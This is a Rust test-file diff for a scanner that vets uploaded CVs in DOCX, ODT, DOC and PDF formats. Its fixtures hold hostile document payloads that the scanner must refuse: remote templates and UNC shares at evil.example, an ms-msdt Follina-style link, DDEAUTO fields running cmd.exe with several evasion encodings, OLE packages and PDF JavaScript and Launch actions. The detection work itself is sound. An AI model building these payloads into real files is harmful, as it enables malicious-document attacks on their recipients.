@@ -1,5 +1,5 @@
 use super::*;
-use crate::file::tests::{Entry, check, compound, docx};
+use crate::file::tests::{Entry, check, compound, docx, zip};
 
 fn png(width: u32, height: u32) -> Vec<u8> {
     let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
@@ -28,7 +28,9 @@ fn jpeg(before: &[u16], width: u16, height: u16) -> Vec<u8> {
 fn deeply(name: &str, bytes: &[u8]) -> Result<FileKind, FileProblem> {
     let kind = check(name, bytes)?;
     let ends = Ends::of(bytes);
-    let looked = std::pin::pin!(super::check(kind, &ends, bytes));
+    let mut scan = Scan::default();
+    bytes.chunks(1000).for_each(|piece| scan.feed(piece));
+    let looked = std::pin::pin!(super::check(kind, &ends, bytes, scan));
     let std::task::Poll::Ready(Ok(looked)) =
         Future::poll(looked, &mut std::task::Context::from_waker(std::task::Waker::noop()))
     else {
@@ -58,70 +60,273 @@ fn a_picture_of_too_many_pixels_is_refused_from_its_header() {
     assert_eq!(check("me.jpg", &both), Err(FileProblem::Unsafe), "a picture and an archive");
 }
 
+/// A DOCX with these parts.
+fn with(parts: &[(&str, &[u8])]) -> Result<FileKind, FileProblem> {
+    let entries: Vec<Entry<'_>> =
+        parts.iter().map(|(name, bytes)| (*name, bytes.len() as u32, *bytes, 0)).collect();
+    deeply("cv.docx", &docx(&entries))
+}
+
+fn relation(kind: &str, target: &str, mode: &str) -> String {
+    format!(
+        r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
+    )
+}
+
+const SETTINGS: &str = "word/_rels/settings.xml.rels";
+const GOOD: Result<FileKind, FileProblem> = Ok(FileKind::Docx);
+const BAD: Result<FileKind, FileProblem> = Err(FileProblem::Unsafe);
+
 #[test]
-fn what_opens_from_elsewhere_is_found_in_the_parts() {
-    let relations = |kind: &str| {
-        format!(
-            r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="https://evil.example/x" TargetMode="External"/></Relationships>"#
-        )
-    };
-    let with = |name: &'static str, text: &str| {
-        let entry: Entry<'_> = (name, text.len() as u32, text.as_bytes(), 0);
-        docx(&[entry])
-    };
-    let part = "word/_rels/settings.xml.rels";
-    for kind in ["attachedTemplate", "oleObject", "subDocument", "frame"] {
-        assert_eq!(
-            deeply("cv.docx", &with(part, &relations(kind))),
-            Err(FileProblem::Unsafe),
-            "{kind}"
-        );
+fn relations_are_judged_by_what_they_load_and_from_where() {
+    let rows = [
+        ("attachedTemplate", "http://evil.example/t.dotm", "External", BAD),
+        ("attachedTemplate", r"\\evil.example\share\t.dotm", "External", BAD),
+        ("attachedTemplate", r"file:///C:\Users\ada\Templates\CV.dotx", "External", GOOD),
+        ("attachedTemplate", "Normal.dotm", "External", GOOD),
+        ("attachedTemplate", "Macintosh HD:Users:ada:CV.dot", "External", GOOD),
+        ("oleObject", "https://evil.example/x.html!", "External", BAD),
+        ("oleObject", "embeddings/x.bin", "Internal", BAD),
+        ("subDocument", "http://evil.example/x", "External", BAD),
+        ("frame", "http://evil.example/x", "External", BAD),
+        ("frame", "page.htm", "External", GOOD),
+        ("hyperlink", "https://example.org", "External", GOOD),
+        ("hyperlink", "ms-msdt:/id PCWDiagnostic", "External", BAD),
+        ("image", "https://example.org/me.png", "External", GOOD),
+        ("image", r"\\evil.example\share\me.png", "External", BAD),
+        ("aFChunk", "http://evil.example/x.docm", "External", BAD),
+        ("vbaProject", "other.bin", "Internal", Err(FileProblem::Macros)),
+    ];
+    for (kind, target, mode, want) in rows {
+        let text = relation(kind, target, mode);
+        assert_eq!(with(&[(SETTINGS, text.as_bytes())]), want, "{kind} {target}");
     }
-    for kind in ["hyperlink", "image"] {
-        assert_eq!(deeply("cv.docx", &with(part, &relations(kind))), Ok(FileKind::Docx), "{kind}");
-    }
-    let field = "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>";
-    assert_eq!(deeply("cv.docx", &with("word/header1.xml", field)), Err(FileProblem::Unsafe));
-    assert_eq!(
-        check("cv.docx", &with("word/embeddings/oleObject1.bin", "x")),
-        Err(FileProblem::Unsafe)
-    );
-    assert_eq!(check("cv.docx", &with("word/activeX/activeX1.xml", "x")), Err(FileProblem::Unsafe));
 }
 
 #[test]
-fn parts_are_unpacked_within_a_budget_and_no_further() {
+fn no_way_of_writing_xml_hides_a_relation() {
+    let text = relation("attachedTemplate", "http://evil.example/t.dotm", "External");
+    let utf16 = |order: fn(u16) -> [u8; 2]| -> Vec<u8> {
+        format!("\u{FEFF}{text}").encode_utf16().flat_map(order).collect()
+    };
+    let charref = text.replace("attachedTemplate", "attachedTemplat&#101;");
+    let hex = text.replace("http", "&#x68;ttp");
+    let marked = format!("\u{FEFF}{text}");
+    let written: [&[u8]; 5] = [
+        &utf16(u16::to_le_bytes),
+        &utf16(u16::to_be_bytes),
+        charref.as_bytes(),
+        hex.as_bytes(),
+        marked.as_bytes(),
+    ];
+    for bytes in written {
+        assert_eq!(with(&[(SETTINGS, bytes)]), BAD);
+    }
+    assert_eq!(with(&[("word/_RELS/settings.xml.RELS", text.as_bytes())]), BAD);
+    let entity = format!("<!DOCTYPE r [<!ENTITY h \"http\">]>{text}");
+    assert_eq!(with(&[(SETTINGS, entity.as_bytes())]), BAD, "entities of its own");
+    assert_eq!(with(&[(SETTINGS, b"<Relationships><Rel")]), Err(FileProblem::Content));
+}
+
+#[test]
+fn fields_are_put_together_before_they_are_judged() {
+    let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
+    let field = |text: &str| {
+        format!(
+            "<w:document><w:fldChar w:fldCharType=\"begin\"/>{text}<w:fldChar w:fldCharType=\"separate\"/>x<w:fldChar w:fldCharType=\"end\"/></w:document>"
+        )
+    };
+    let bad = [
+        field(&run("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
+        field(&format!("{}{}", run("D"), run("DEAUTO excel"))),
+        field(&run(" ddeauto excel")),
+        field(&run("&#68;DE excel")),
+        field(&run("<![CDATA[DDE excel]]>")),
+        "<w:document><w:fldSimple w:instr=\"DDE excel\"/></w:document>".to_owned(),
+        field(&run("INCLUDEPICTURE \"\\\\\\\\evil.example\\\\a.png\"")),
+        "<w:document><v:imagedata src=\"\\\\evil.example\\a.png\"/></w:document>".to_owned(),
+    ];
+    let parts =
+        ["word/header1.xml", "word/footnotes.xml", "word/document9.xml", "word/comments.xml"];
+    for text in &bad {
+        for part in parts {
+            assert_eq!(with(&[(part, text.as_bytes())]), BAD, "{part} {text}");
+        }
+    }
+    let fine = [
+        "<w:document><w:t>DDEAUTO is a field that I know</w:t></w:document>".to_owned(),
+        field(&run("INCLUDEPICTURE \"https://example.org/me.png\"")),
+        field(&run("PAGE")).replace(">x<", "><w:t>DDEAUTO</w:t><"),
+    ];
+    for text in &fine {
+        assert_eq!(with(&[("word/header1.xml", text.as_bytes())]), GOOD, "{text}");
+    }
+}
+
+#[test]
+fn the_main_part_is_what_the_relations_name() {
+    let types = ("[Content_Types].xml", 1, &b"x"[..], 0);
+    let root = relation("officeDocument", "/text/Main.xml", "Internal");
+    let root = ("_rels/.rels", root.len() as u32, root.as_bytes(), 0);
+    let main = |text: &'static str| ("text/main.xml", text.len() as u32, text.as_bytes(), 0);
+    let document = zip(&[types, root, main("<w:document/>")]);
+    assert_eq!(deeply("cv.docx", &document), GOOD);
+    let sheet = zip(&[types, root, main("<workbook/>")]);
+    assert_eq!(deeply("cv.docx", &sheet), Err(FileProblem::Content));
+    let field = "<w:document><w:fldSimple w:instr='DDE x'/></w:document>";
+    assert_eq!(deeply("cv.docx", &zip(&[types, root, main(field)])), BAD);
+    assert_eq!(deeply("cv.docx", &zip(&[types])), Err(FileProblem::Content));
+}
+
+#[test]
+fn a_document_inside_may_be_a_page_and_not_rtf() {
+    let chunk = relation("aFChunk", "chunk.dat", "Internal");
+    let inside = |bytes: &[u8]| {
+        with(&[("word/_rels/document.xml.rels", chunk.as_bytes()), ("word/chunk.dat", bytes)])
+    };
+    assert_eq!(inside(b"MIME-Version: 1.0"), GOOD);
+    assert_eq!(inside(b"{\\rtf1 x}"), BAD);
+}
+
+#[test]
+fn a_file_that_spends_its_budget_is_refused_in_bounded_memory() {
     use miniz_oxide::deflate::compress_to_vec;
-    // What is looked for stands behind ten times the budget of zeros.
-    let mut text = vec![b' '; UNPACKED_MAX * 10];
-    text.extend_from_slice(b"DDEAUTO");
-    let packed = compress_to_vec(&text, 9);
-    let near = compress_to_vec(&[&vec![b' '; 70_000][..], b"DDEAUTO", &[b' '; 100]].concat(), 9);
-    for (packed, want) in [(packed, Ok(FileKind::Docx)), (near, Err(FileProblem::Unsafe))] {
+    let deflated = |text: &[u8]| {
+        let packed = compress_to_vec(text, 9);
         let mut bytes = docx(&[("word/document2.xml", 100, &packed, 0)]);
         // Said to be deflated, in the directory.
         let at = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
         bytes[at + 10] = 8;
-        assert_eq!(deeply("cv.docx", &bytes), want);
+        deeply("cv.docx", &bytes)
+    };
+    assert_eq!(deflated(&[b"<w:document>".to_vec(), vec![b'x'; UNPACKED_MAX / 2]].concat()), GOOD);
+    assert_eq!(deflated(&[b"<w:document>".to_vec(), vec![b'x'; UNPACKED_MAX]].concat()), BAD);
+    assert_eq!(deflated(&[b"<w:document ".to_vec(), vec![b'x'; 2_000_000]].concat()), BAD);
+}
+
+#[test]
+fn an_odt_is_judged_by_its_scripts_objects_and_links() {
+    let odt = |parts: &[(&str, &[u8])]| {
+        let mut all: Vec<(&str, &[u8])> = vec![("content.xml", b"<office:text/>")];
+        all.extend_from_slice(parts);
+        all.push(("mimetype", b"application/vnd.oasis.opendocument.text"));
+        let entries: Vec<_> = all.iter().map(|(n, b)| (*n, b.len() as u32, *b, 0)).collect();
+        deeply("cv.odt", &zip(&entries))
+    };
+    let fine = Ok(FileKind::Odt);
+    assert_eq!(odt(&[]), fine, "a media type that is not first");
+    let module = |code: &str| {
+        format!("<script:module>Rem by Word\nOption VBASupport 1\n{code}</script:module>")
+    };
+    let basic = "Basic/Standard/ThisDocument.xml";
+    assert_eq!(odt(&[(basic, module("").as_bytes())]), fine);
+    assert_eq!(odt(&[(basic, module("Sub Main").as_bytes())]), Err(FileProblem::Macros));
+    assert_eq!(odt(&[("Basic/script-lc.xml", b"<library:libraries/>")]), fine);
+    assert_eq!(odt(&[("Scripts/python/a.py", b"x")]), Err(FileProblem::Macros));
+    let package: &[u8] = b"\x40\0\0\0\x02\0cv.txt\0C:\\cv.txt\0\0\0\x03\0";
+    let picture: &[u8] = b"\x40\0\0\0BM\x36\0\0\0\0\0";
+    for (native, want) in [(package, Err(FileProblem::Unsafe)), (picture, fine)] {
+        let object = compound(&[("\u{1}Ole10Native", Some(native))]);
+        assert_eq!(odt(&[("Object 1", &object)]), want);
+    }
+    let texts = [
+        ("<text:a xlink:href='https://example.org'/>", fine),
+        ("<draw:image xlink:href='https://example.org/me.png'/>", fine),
+        ("<draw:image xlink:href='//evil.example/me.png'/>", Err(FileProblem::Unsafe)),
+        ("<draw:object xlink:href='http://evil.example/x'/>", Err(FileProblem::Unsafe)),
+        ("<text:section-source xlink:href='http://evil.example/x'/>", Err(FileProblem::Unsafe)),
+        ("<office:dde-source/>", Err(FileProblem::Unsafe)),
+        ("<script:event-listener xlink:href='vnd.sun.star.script:x'/>", Err(FileProblem::Macros)),
+        ("<text:p>vnd.sun.star.script: I wrote one</text:p>", fine),
+    ];
+    for (text, want) in texts {
+        assert_eq!(odt(&[("styles.xml", text.as_bytes())]), want, "{text}");
+    }
+    let locked = b"<manifest:encryption-data/>";
+    assert_eq!(odt(&[("META-INF/manifest.xml", locked)]), Err(FileProblem::Encrypted));
+}
+
+#[test]
+fn a_doc_is_judged_by_its_streams() {
+    let doc = |entries: &[(&str, Option<&[u8]>)]| deeply("cv.doc", &compound(entries));
+    let text: &[u8] = &[0xEC, 0xA5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    let locked: &[u8] = &[0xEC, 0xA5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
+    let document = ("WordDocument", Some(text));
+    assert_eq!(doc(&[document]), Ok(FileKind::Doc));
+    assert_eq!(doc(&[document, ("Macros", None)]), Ok(FileKind::Doc));
+    assert_eq!(doc(&[("WordDocument", Some(locked))]), Err(FileProblem::Encrypted));
+    assert_eq!(doc(&[("Workbook", Some(b"x"))]), Err(FileProblem::Content));
+    let package: &[u8] = b"\x40\0\0\0\x02\0cv.exe\0C:\\cv.exe\0\0\0\x03\0";
+    assert_eq!(doc(&[document, ("\u{1}Ole10Native", Some(package))]), Err(FileProblem::Unsafe));
+    let field: &[u8] = b"\xEC\xA5          \x13 DDEAUTO c:\\\\cmd.exe \x14x\x15";
+    assert_eq!(doc(&[("WordDocument", Some(field))]), Err(FileProblem::Unsafe));
+    let wrapped = compound(&[("EncryptedPackage", Some(b"x")), ("EncryptionInfo", Some(b"x"))]);
+    assert_eq!(check("cv.docx", &wrapped), Err(FileProblem::Encrypted));
+}
+
+/// A PDF whose first object is an object stream with this text, packed.
+fn object_stream(text: &str, dictionary: &str) -> Vec<u8> {
+    let packed = miniz_oxide::deflate::compress_to_vec_zlib(text.as_bytes(), 9);
+    let head = format!("%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4{dictionary}>>stream\n");
+    [head.as_bytes(), &packed, b"\nendstream endobj\n%%EOF"].concat()
+}
+
+#[test]
+fn scripts_of_a_pdf_are_found_and_judged_wherever_they_are() {
+    let pdf = |text: &str| deeply("cv.pdf", format!("%PDF-1.7\n{text}\n%%EOF").as_bytes());
+    let (fine, harm) = (Ok(FileKind::Pdf), Err(FileProblem::Unsafe));
+    let flate = "/Filter/FlateDecode";
+    let rows = [
+        (pdf("1 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"), harm),
+        (pdf("1 0 obj<</S/JavaScript/JS(AFNumber_Format\\(2, 0\\);)>>endobj"), fine),
+        (pdf("1 0 obj<</Names<</JavaScript 3 0 R>>>>endobj 3 0 obj<</Names[]>>endobj"), fine),
+        (pdf("1 0 obj<</S/JavaScript/JS 2 0 R>>endobj 2 0 obj(app.alert\\(1\\))endobj"), harm),
+        (pdf("1 0 obj<</S/JavaScript/JS 2 0 R>>endobj 2 0 obj(AFTime_Format\\(0\\))endobj"), fine),
+        (
+            pdf(
+                "1 0 obj<</JS 2 0 R>>endobj 2 0 obj<</Length 4>>stream\nAFTime_Format(0)\nendstream",
+            ),
+            fine,
+        ),
+        (
+            pdf(
+                "1 0 obj<</JS 2 0 R>>endobj 2 0 obj<</Length 2>>stream\nAFTime_Format(0);app.x\nendstream",
+            ),
+            harm,
+        ),
+        (pdf("1 0 obj<</JS 2 0 R>>endobj"), harm),
+        (pdf("1 0 obj<</S/Launch/F(cmd.exe)>>endobj"), harm),
+        (
+            deeply("cv.pdf", &object_stream("2 0 <</S/JavaScript/JS(app.alert\\(1\\))>>", flate)),
+            harm,
+        ),
+        (
+            deeply(
+                "cv.pdf",
+                &object_stream("2 0 <</S/JavaScript/JS(AFTime_Format\\(0\\))>>", flate),
+            ),
+            fine,
+        ),
+        (deeply("cv.pdf", &object_stream("2 0 <</JS 2 0 R>>", flate)), harm),
+        (deeply("cv.pdf", &object_stream("2 0 (AFTime_Format\\(0\\)) <</JS 2 0 R>>", flate)), fine),
+        (deeply("cv.pdf", &object_stream("2 0 <</S/Launch>>", "/Filter[/Fl]")), harm),
+        (deeply("cv.pdf", &object_stream("2 0 <<>>", "/Filter/LZWDecode")), harm),
+        (deeply("cv.pdf", &object_stream(&" ".repeat(9_000_000), flate)), harm),
+        (pdf("/Encrypt 9 0 R"), Err(FileProblem::Encrypted)),
+    ];
+    for (i, (verdict, want)) in rows.into_iter().enumerate() {
+        assert_eq!(verdict, want, "row {i}");
     }
 }
 
 #[test]
-fn a_locked_document_of_office_says_so() {
-    assert_eq!(
-        check("cv.docx", &compound(&["Root Entry", "EncryptedPackage", "EncryptionInfo"])),
-        Err(FileProblem::Encrypted)
-    );
-    assert_eq!(check("cv.docx", &compound(&["Root Entry"])), Err(FileProblem::Content));
-    // Word's own lock: a flag of the document's stream, which begins in the third sector.
-    let mut doc = compound(&["Root Entry", "WordDocument"]);
-    doc.resize(512 * 4, 0);
-    doc[48..52].copy_from_slice(&0u32.to_le_bytes());
-    doc[76..80].copy_from_slice(&2u32.to_le_bytes());
-    doc[512 * 3..512 * 3 + 4].copy_from_slice(&0xFFFF_FFFEu32.to_le_bytes());
-    doc[512 + 128 + 116..][..4].copy_from_slice(&1u32.to_le_bytes());
-    doc[1024..1026].copy_from_slice(&[0xEC, 0xA5]);
-    assert_eq!(deeply("cv.doc", &doc), Ok(FileKind::Doc));
-    doc[1024 + 11] = 1;
-    assert_eq!(deeply("cv.doc", &doc), Err(FileProblem::Encrypted));
+fn an_archive_inside_a_pdf_is_an_attachment_and_one_behind_it_is_not() {
+    let archive = docx(&[]);
+    let inside =
+        [b"%PDF-1.7\n1 0 obj<</Length 9>>stream\n", &archive[..], b"\nendstream endobj\nxref"];
+    assert_eq!(deeply("cv.pdf", &inside.concat()), Ok(FileKind::Pdf));
+    for behind in [&b""[..], b"\n%%EOF"] {
+        let both = [b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF", &archive[..], behind].concat();
+        assert_eq!(deeply("cv.pdf", &both), BAD);
+    }
 }
